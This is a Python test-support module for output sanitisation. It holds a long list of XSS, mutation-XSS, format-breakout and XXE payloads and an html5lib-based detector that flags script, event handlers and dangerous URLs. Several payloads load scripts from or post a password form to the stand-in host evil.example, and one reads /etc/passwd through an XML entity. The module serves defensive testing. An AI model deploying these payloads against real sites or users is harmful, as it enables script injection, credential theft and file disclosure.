"""Hostile text and how a reader's software would find it: the corpus every output is tried with.

Each payload is at most 200 characters, so it fits any title or byline. ``dangers`` parses HTML
with an HTML5 parser, as a browser or a feed reader does, and lists whatever in it could run
script or load something from elsewhere.
"""

import json
import re

import html5lib

PAYLOADS = [
    # Script elements, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("//evil.example")</script>',
    "<<script>alert(1)//<</script>",
    "<script\x20type=text/javascript>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert`1`</script>",
    '<script>eval(atob("YWxlcnQoMSk="))</script>',
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script>/*</script><script>*/alert(1)</script>",
    # Event handlers on ordinary and exotic elements
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.jpg" ONERROR="alert(1)">',
    "<p onclick=alert(1)>点我</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="https://example.org" onmouseover="alert(1)">链接</a>',
    "<div/onmouseover='alert(1)'>悬停</div>",
    '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>格</td></tr></table>',
    "<img src=x onerror=alert&#40;1&#41;>",
    "<img src=x:x onerror=javascript:alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<div onpointerover=alert(1)>指针</div>",
    '<object onerror=alert(1) data="x">',
    "<style onload=alert(1)></style>",
    "<iframe onload=alert(1)></iframe>",
    "<form><button onfocus=alert(1) autofocus>按</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    # javascript:, vbscript: and data: URLs, with obfuscation
    '<a href="javascript:alert(1)">链接</a>',
    '<a href="JaVaScRiPt:alert(1)">链接</a>',
    '<a href="jav&#x09;ascript:alert(1)">链接</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">链接</a>',
    '<a href=" javascript:alert(1)">链接</a>',
    '<a href="vbscript:msgbox(1)">链接</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="javascript:alert(1) 1x">',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">十六进制</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)">零</a>',
    '<a href="java\nscript:alert(1)">换行</a>',
    '<a href="javascript&colon;alert(1)">冒号</a>',
    '<a href="\tjavascript:alert(1)">制表符</a>',
    "<a href=javascript:alert(1)>无引号</a>",
    '<a href="javascript://%0Aalert(1)">注释</a>',
    '<a href="data:text/html,<script>alert(1)</script>">数据</a>',
    '<a href="javascript:tel:+8637165951234">电话</a>',
    '<a href="tel:+86-371&#10;javascript:alert(1)" onclick="alert(1)">电话</a>',
    '<img src="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<input type="image" src="javascript:alert(1)">',
    '<video poster="javascript:alert(1)">',
    # Frames, plugins and forms
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="//evil.example/x.swf">',
    '<form action="https://evil.example"><input name=密码><button>登录</button></form>',
    '<button formaction="javascript:alert(1)">按钮</button>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<applet code="javascript:alert(1)"></applet>',
    "<form><input type=submit formaction=javascript:alert(1) value=提交></form>",
    # Document-level hijacks
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    # CSS
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">样式</p>',
    '<p style="width:expression(alert(1))">样式</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">遮罩</p>',
    '<div style="behavior:url(x.htc)">样式</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="-moz-binding:url(//evil.example/x.xml#xss)">绑定</div>',
    # Code, whose text is markup and whose classes could borrow the site's
    '<pre><code class="language-python" onclick="alert(1)">点我</code></pre>',
    '<pre style="background:url(//evil.example/x.png)"><code>代码</code></pre>',
    '<code class="language-python skip-link" style="position:fixed;top:0">遮罩</code>',
    "<pre><code><script>alert(1)</script></code></pre>",
    "<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
    # SVG and MathML namespace tricks
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>点</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<math href="javascript:alert(1)">公式</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">点</maction></math>',
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>",
    # Parser differentials (mutation XSS)
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<p title="a"onmouseover=alert(1)//">引号</p>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<a href="https://example.org"><img src=x onerror="alert(1)"></a>',
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "<table><td><form><input name=x></form></td></table><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></math>",
    # Text that becomes markup if a later step decodes it once more than it encoded
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    '&lt;a href="javascript:alert(1)"&gt;链接&lt;/a&gt;',
    # Breaking out of the format around the text: XML, CDATA, JSON in <script>, iCalendar
    "]]><script>alert(1)</script><![CDATA[",
    "</description><script>alert(1)</script><description>",
    '</summary><summary type="html"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>',
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
    "</script><script>alert(1)</script>",
    "<!--<script>-->",
    '"}]</script><script>alert(1)</script>',
    "\u2028\u2029alert(1)//",
    "活动\r\nDESCRIPTION:<script>alert(1)</script>",
    "标题\\nX-ALT-DESC;FMTTYPE=text/html:<script>alert(1)</script>",
    # Ordinary text with markup characters, which readers must see exactly as written
    "<b>加粗</b>不是标签",
    "R&D 与 a < b > c",
    "《科协通讯》“引号”与 'single' & \"double\"",
]

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "srcset", "background", "poster", "xlink:href",
    "lowsrc", "dynsrc", "code", "values", "to",
}  # fmt: skip
ALLOWED_CSS = {"text-align", "width"}
# What the parser adds around any fragment.
DOCUMENT = {"html", "head", "body"}


def local(tag):
    return tag.rsplit("}", 1)[-1].lower() if isinstance(tag, str) else ""


def parse(html):
    """``html`` parsed as a browser parses it (an ElementTree document without namespaces)."""
    return html5lib.parse(html, namespaceHTMLElements=False)


def is_json_data(script):
    """A ``<script type="application/ld+json">`` holding nothing but JSON: data the browser never runs."""
    if script.get("type") != "application/ld+json":
        return False
    try:
        json.loads(script.text or "")
    except ValueError:
        return False
    return True


def dangers(html):
    """What in ``html``, parsed as a browser would, could run script or pull in outside content."""
    found = []
    for element in parse(html).iter():
        name = local(element.tag)
        if name == "script" and not is_json_data(element):
            found.append("script element")
        for attribute, value in element.attrib.items():
            attribute = local(attribute)
            if attribute.startswith("on"):
                found.append(f"{attribute} on <{name}>")
            squeezed = re.sub(r"[\x00-\x20]+", "", value).lower()
            if attribute in URL_ATTRIBUTES and squeezed.startswith(("javascript:", "vbscript:", "data:")):
                found.append(f"{attribute}={value!r} on <{name}>")
            if attribute == "style":
                properties = {rule.split(":")[0].strip().lower() for rule in value.split(";") if rule.strip()}
                if properties - ALLOWED_CSS:
                    found.append(f"style {value!r} on <{name}>")
    return found


def elements(html):
    """The elements and comments ``html`` makes in a document: none, for what should be text."""
    return [local(node.tag) or "comment" for node in parse(html).iter() if local(node.tag) not in DOCUMENT]


def visible_text(html):
    """The text of ``html`` as a reader sees it: entities decoded, runs of white space as one."""
    return " ".join("".join(parse(html).itertext()).split())
